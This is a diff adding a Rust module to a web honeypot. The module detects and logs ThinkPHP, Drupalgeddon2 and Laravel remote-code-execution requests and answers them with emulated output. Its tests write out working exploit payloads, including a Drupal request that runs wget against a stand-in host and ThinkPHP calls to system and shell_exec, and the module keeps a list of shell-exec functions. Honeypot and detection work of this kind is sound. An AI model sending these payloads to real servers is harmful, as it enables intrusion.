@@ -0,0 +1,349 @@
+//! RCEs in PHP frameworks which bots have sprayed at every web server for
+//! years: ThinkPHP's `invokefunction` routing, Laravel's Ignition solutions
+//! and `APP_KEY` encrypted payloads, and Drupalgeddon2's render arrays. The
+//! PHP each would have run is logged, and the request tagged with its CVE.
+//! Calls which run shell commands are answered with their emulated output
+//! when command injection is emulated, so bots go on to fetch their second
+//! stages; otherwise each framework errors as an unexploitable one would.
+use std::sync::Arc;
+
+use base64::{engine::general_purpose::STANDARD, Engine};
+use serde_json::{json, Value};
+
+use crate::{
+    honeypot::{php::Php, shell::Injection},
+    http::{
+        request::Request,
+        response::{Response, ResponseBuilder},
+    },
+    middleware::{BoxFuture, Middleware, Next},
+    prelude::*,
+};
+
+/// PHP functions which run their argument as a shell command
+const EXEC_FUNCTIONS: &[&str] = &["system", "exec", "passthru", "shell_exec", "popen"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Framework {
+    ThinkPhp,
+    Laravel,
+    Drupal,
+}
+
+/// A framework exploit found in a request.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Exploit {
+    pub framework: Framework,
+    pub cve: &'static str,
+    /// the PHP function called, when the exploit names one
+    pub function: Option<String>,
+    /// the arguments it's called with, or what's smuggled otherwise
+    pub args: Vec<String>,
+}
+
+impl Exploit {
+    /// the shell command the exploit runs, if it calls an exec function.
+    pub fn command(&self) -> Option<Injection> {
+        let function = self.function.as_deref()?.to_lowercase();
+        EXEC_FUNCTIONS
+            .contains(&function.as_str())
+            .then(|| Injection {
+                field: function,
+                command: self.args.join(" "),
+            })
+    }
+}
+
+/// the first framework exploit in the request, if any.
+pub fn detect(req: &Request) -> Option<Exploit> {
+    let fields: Vec<(String, String)> = req
+        .url
+        .query_pairs()
+        .chain(url::form_urlencoded::parse(&req.body))
+        .map(|(k, v)| (k.into_owned(), v.into_owned()))
+        .collect();
+    let field = |name: &str| {
+        fields
+            .iter()
+            .find(|(k, _)| k == name)
+            .map(|(_, v)| v.clone())
+    };
+    // the values of a field and its subscripts, as `vars[1][]`
+    let values = |name: &str| {
+        fields
+            .iter()
+            .filter(|(k, _)| k == name || k.starts_with(&format!("{}[", name)))
+            .map(|(_, v)| v.clone())
+            .collect::<Vec<_>>()
+    };
+
+    // ThinkPHP 5 routes `s` to any public method of any class
+    let route = field("s").unwrap_or_default().to_lowercase();
+    if route.contains("invokefunction") {
+        let mut function = field("function");
+        let mut args = values("vars");
+        // call_user_func_array is called with the real function first
+        if function.as_deref() == Some("call_user_func_array") && !args.is_empty() {
+            function = Some(args.remove(0));
+        }
+        return Some(Exploit {
+            framework: Framework::ThinkPhp,
+            cve: "CVE-2018-20062",
+            function,
+            args,
+        });
+    }
+
+    // Drupal renders `#markup` through the `#post_render` callbacks
+    let post_render = fields
+        .iter()
+        .find(|(k, _)| k.contains("[#post_render]"))
+        .map(|(k, v)| (k.split('[').next().unwrap_or_default().to_string(), v));
+    if let Some((element, function)) = post_render {
+        return Some(Exploit {
+            framework: Framework::Drupal,
+            cve: "CVE-2018-7600",
+            function: Some(function.clone()),
+            args: values(&format!("{}[#markup]", element)),
+        });
+    }
+
+    if req.url.path().ends_with("/_ignition/execute-solution") {
+        let body = serde_json::from_slice::<Value>(&req.body).unwrap_or_default();
+        let params = &body["parameters"];
+        return Some(Exploit {
+            framework: Framework::Laravel,
+            cve: "CVE-2021-3129",
+            function: body["solution"].as_str().map(str::to_string),
+            args: ["viewFile", "variableName"]
+                .iter()
+                .filter_map(|p| params[p].as_str().map(str::to_string))
+                .collect(),
+        });
+    }
+
+    // a leaked APP_KEY lets a serialized object be encrypted into the
+    // XSRF token, which Laravel decrypts and unserializes
+    let token = req
+        .headers
+        .get("X-XSRF-TOKEN")
+        .into_iter()
+        .flatten()
+        .find_map(|v| {
+            let decoded = STANDARD.decode(v.trim()).ok()?;
+            let token = serde_json::from_slice::<Value>(&decoded).ok()?;
+            token["mac"].is_string().then(|| v.clone())
+        });
+    token.map(|token| Exploit {
+        framework: Framework::Laravel,
+        cve: "CVE-2018-15133",
+        function: None,
+        args: vec![token],
+    })
+}
+
+/// the CVE of the framework exploit in the request, if any.
+pub fn cve(req: &Request) -> Option<&'static str> {
+    detect(req).map(|e| e.cve)
+}
+
+/// Middleware which answers framework exploits.
+#[derive(Debug, Clone, Default)]
+pub struct FrameworkExploits {
+    emulate: bool,
+    php: Php,
+}
+
+impl FrameworkExploits {
+    /// `emulate` answers exploits which run shell commands with their
+    /// output.
+    pub fn new(emulate: bool, php: Php) -> Self {
+        Self { emulate, php }
+    }
+
+    // the status code, content type, and body of the response to an exploit;
+    // Laravel's 419 isn't a registered StatusCode
+    fn respond(&self, exploit: &Exploit) -> (u16, &'static str, String) {
+        let output = exploit
+            .command()
+            .filter(|_| self.emulate)
+            .map(|injection| injection.output());
+
+        match (exploit.framework, output) {
+            (Framework::ThinkPhp, Some(output)) => (200, "text/html; charset=utf-8", output),
+            (Framework::ThinkPhp, None) => (
+                500,
+                "text/html; charset=utf-8",
+                THINKPHP_ERROR.to_string(),
+            ),
+            // the command's output is printed before the AJAX commands
+            (Framework::Drupal, output) => (
+                200,
+                "application/json",
+                format!(
+                    "{}{}",
+                    output.unwrap_or_default(),
+                    json!([{
+                        "command": "insert",
+                        "method": "replaceWith",
+                        "selector": null,
+                        "data": "",
+                        "settings": null,
+                    }])
+                ),
+            ),
+            (Framework::Laravel, _) if exploit.cve == "CVE-2021-3129" => (
+                500,
+                "application/json",
+                json!({
+                    "message": format!(
+                        "file_get_contents({}): failed to open stream: No such file or directory",
+                        exploit.args.first().map(String::as_str).unwrap_or_default()
+                    ),
+                    "exception": "ErrorException",
+                    "file": "/var/www/html/vendor/facade/ignition/src/Solutions/MakeViewVariableOptionalSolution.php",
+                    "line": 75,
+                })
+                .to_string(),
+            ),
+            (Framework::Laravel, _) => (
+                419,
+                "text/html; charset=UTF-8",
+                "<!DOCTYPE html>\n<html lang=\"en\">\n<head><title>Page Expired</title></head>\n\
+                 <body><div class=\"code\">419</div><div class=\"message\">Page Expired</div></body>\n</html>\n"
+                    .to_string(),
+            ),
+        }
+    }
+}
+
+impl Middleware for FrameworkExploits {
+    fn call<'a>(&'a self, req: &'a Request, next: Next<'a>) -> BoxFuture<'a, Result<Response>> {
+        Box::pin(async move {
+            let exploit = match detect(req) {
+                Some(exploit) => exploit,
+                None => return next.run(req).await,
+            };
+            info!(
+                "{: <8} exploited {:?} ({}) calling {} with {:?}",
+                req.requester(),
+                exploit.framework,
+                exploit.cve,
+                exploit.function.as_deref().unwrap_or("nothing"),
+                exploit.args
+            );
+            if let Some(injection) = exploit.command() {
+                info!(
+                    "{: <8} ran {:?} through {:?} downloading {:?}",
+                    req.requester(),
+                    injection.command,
+                    exploit.framework,
+                    injection.download_urls()
+                );
+            }
+
+            let (status, content_type, body) = self.respond(&exploit);
+            let mut builder = ResponseBuilder::default(Arc::new(next.into_conn()));
+            Ok(self
+                .php
+                .expose(&mut builder)
+                .status_code(status)
+                .add_header("Content-Type", content_type)
+                .body(body)
+                .build()?)
+        })
+    }
+
+    fn route(&self) -> Option<&'static str> {
+        Some("frameworks")
+    }
+}
+
+// ThinkPHP's production error page, with debugging off
+const THINKPHP_ERROR: &str = r#"<!DOCTYPE html>
+<html>
+<head>
+<meta charset="UTF-8">
+<title>系统发生错误</title>
+<meta name="robots" content="noindex,nofollow" />
+</head>
+<body>
+<div class="echo"></div>
+<div class="exception">
+<div class="info"><h1>页面错误！请稍后再试～</h1></div>
+</div>
+<div class="copyright">
+<a title="官方网站" href="http://www.thinkphp.cn">ThinkPHP</a>
+<span>V5.0.22</span>
+<span>{ 十年磨一剑-为API开发设计的高性能框架 }</span>
+</div>
+</body>
+</html>
+"#;
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::http::request::Method;
+
+    fn stub_request(target: &str, body: &str) -> Request {
+        Request::stub(Method::POST, target, body)
+    }
+
+    #[test]
+    fn test_detect() {
+        let req = stub_request(
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
+            "",
+        );
+        let exploit = detect(&req).unwrap();
+        assert_eq!(Framework::ThinkPhp, exploit.framework);
+        assert_eq!(Some("system".to_string()), exploit.function);
+        assert_eq!("id", exploit.command().unwrap().command);
+
+        let req = stub_request(
+            "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
+            "form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D=exec\
+             &mail%5B%23type%5D=markup&mail%5B%23markup%5D=wget+http%3A%2F%2F203.0.113.9%2Fx",
+        );
+        let exploit = detect(&req).unwrap();
+        assert_eq!("CVE-2018-7600", exploit.cve);
+        assert_eq!(
+            vec!["http://203.0.113.9/x"],
+            exploit.command().unwrap().download_urls()
+        );
+
+        let req = stub_request(
+            "/_ignition/execute-solution",
+            r#"{"solution":"Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"phar://../storage/logs/laravel.log"}}"#,
+        );
+        let exploit = detect(&req).unwrap();
+        assert_eq!("CVE-2021-3129", exploit.cve);
+        assert_eq!("phar://../storage/logs/laravel.log", exploit.args[0]);
+        assert_eq!(None, exploit.command());
+
+        let mut req = stub_request("/", "");
+        req.headers.add(
+            "X-XSRF-TOKEN",
+            STANDARD.encode(r#"{"iv":"a","value":"b","mac":"c"}"#),
+        );
+        assert_eq!(Some("CVE-2018-15133"), cve(&req));
+
+        assert_eq!(None, detect(&stub_request("/index.php?s=index/index", "")));
+    }
+
+    #[test]
+    fn test_respond() {
+        let req = stub_request(
+            "/?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=whoami",
+            "",
+        );
+        let exploit = detect(&req).unwrap();
+        let (status, _, body) = FrameworkExploits::new(true, Php::default()).respond(&exploit);
+        assert_eq!((200, "www-data\n"), (status, body.as_str()));
+
+        let (status, _, body) = FrameworkExploits::new(false, Php::default()).respond(&exploit);
+        assert_eq!(500, status);
+        assert!(body.contains("ThinkPHP"));
+    }
+}